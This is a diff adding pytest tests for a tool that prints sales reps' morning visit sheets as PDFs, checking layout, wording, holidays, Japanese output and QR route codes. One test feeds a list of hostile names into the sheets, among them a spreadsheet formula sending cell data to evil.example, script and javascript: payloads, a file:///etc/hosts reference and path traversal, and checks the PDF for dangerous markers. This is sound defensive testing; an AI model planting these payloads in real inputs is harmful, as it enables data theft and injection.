@@ -1,0 +1,83 @@
+"""Morning sheets on paper: real PDFs read back."""
+
+import io
+import shutil
+import subprocess
+from collections.abc import Callable
+from datetime import date
+from pathlib import Path
+
+import pytest
+from pypdf import PdfReader
+
+from workbench.documents.morning import morning_sheets
+from workbench.documents.morning_page import morning_pdf
+from workbench.workspace import Workspace
+
+Company = Callable[..., Workspace]
+TODAY = date(2026, 11, 24)
+
+
+def printed(workspace: Workspace, day: date = TODAY, paper: str = "A4", grey: bool = False) -> bytes:
+    with workspace.read() as session:
+        return morning_pdf(morning_sheets(session, day), paper, grey)[0]
+
+
+def texts(content: bytes) -> list[str]:
+    return ["".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(content)).pages]
+
+
+@pytest.mark.parametrize("stops", [0, 1, 4, 5, 8, 9, 14, 15, 20, 24, 30, 60])
+@pytest.mark.parametrize("paper", ["A4", "Letter"])
+def test_one_page_a_rep_whatever_the_number_of_visits(company: Company, stops: int, paper: str) -> None:
+    pages = texts(printed(company(stops=stops, reps=2), paper=paper))
+    assert len(pages) == 2
+    for number, page in enumerate(pages, 1):
+        assert f"{number}/2" in page
+        assert page.count("Hanshin") == -(-stops // 5)
+
+
+def test_a_sheet_says_all_that_a_rep_needs(company: Company) -> None:
+    (page,) = texts(printed(company()))
+    for words in ("Tuesday24November", "60ordersby31Mar2027", "5visits,", "HOWMANY", "WHOM", "WHATTOSAY", "09:20", "to10:30", "阪神メディカル,T.Endo",
+                  "Amagasaki,Tsukaguchi1-8", "28mindrive,lastvisit13daysago", "Trialbatchresult;askforQ1volumes", "met", "proposal", "order", "next",
+                  "WHOLEROUTE", "IFONEFALLSTHROUGH", "HiranoSeiki", "KitagawaPrecision·confidential"):  # fmt: skip
+        assert words in page, words
+
+
+def test_a_holiday_is_said_in_place_of_the_visits(company: Company) -> None:
+    (page,) = texts(printed(company(), date(2026, 11, 23)))
+    assert "LaborThanksgivingDay:novisitstoday." in page and "ThenextsheetisforTuesday24November:5visits,thefirstat09:20." in page
+
+
+def test_a_japanese_company_gets_a_japanese_sheet(company: Company) -> None:
+    (page,) = texts(printed(company(language="ja")))
+    assert "11月24日(火)" in page and "北川精密" in page and "朝の訪問表" in page and "Morningsheet" not in page
+
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "<script>alert(1)</script>", "<b>Miller & Sons <i>", '<img src="file:///etc/hosts"/>',
+    '<a href="javascript:alert(1)">x</a>', "&nbsp;&#0;&#xD800;&bogus;", "\u202eevil\u202c شركة مثال", "A\u200bB\u200dC\ufeffD", "👨‍👩‍👧‍👦🏳️‍🌈 商店",
+    "Z" + "\u0301" * 300, "あ" * 5_000, "first\r\nsecond\u2028third", "bell\x07esc\x1b[31mred", "../../../../tmp/pwned", "%s%n%x {0} {name}", ".", "\u3000\u00a0 ",
+    "W" * 400, "שלום עולם",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("stops", [5, 14, 20])
+def test_hostile_names_print_on_one_page_and_do_nothing(company: Company, stops: int) -> None:
+    for start in range(0, len(HOSTILE), stops):
+        content = printed(company(stops=stops, names=HOSTILE[start:] + HOSTILE[:start]))
+        assert len(texts(content)) == 1
+        assert not any(word in content for word in (b"/JavaScript", b"/Launch", b"/URI", b"/EmbeddedFile", b"file:///", b"javascript:"))
+
+
+@pytest.mark.skipif(not shutil.which("zbarimg") or not shutil.which("pdftoppm"), reason="needs zbarimg and pdftoppm to read codes back")
+@pytest.mark.parametrize("stops", [5, 14, 20])
+def test_every_code_on_the_paper_is_read_back(company: Company, tmp_path: Path, stops: int) -> None:
+    (tmp_path / "sheet.pdf").write_bytes(printed(company(stops=stops)))
+    subprocess.run(["pdftoppm", "-r", "200", "-gray", "-png", tmp_path / "sheet.pdf", tmp_path / "sheet"], check=True)
+    found = subprocess.run(["zbarimg", "-q", "--raw", tmp_path / "sheet-1.png"], capture_output=True, text=True, check=True).stdout.split()
+    places = {(34.7527, 135.4172), (34.6930, 135.7130), (34.6810, 135.8195), (34.6070, 135.6010), (34.6640, 135.5710)}
+    stop_links = {f"https://www.google.com/maps/dir/?api=1&destination={lat:.5f},{lng:.5f}" for lat, lng in places}
+    assert stop_links <= set(found)
+    assert sum("waypoints" in link for link in found) == -(-stops // 9)
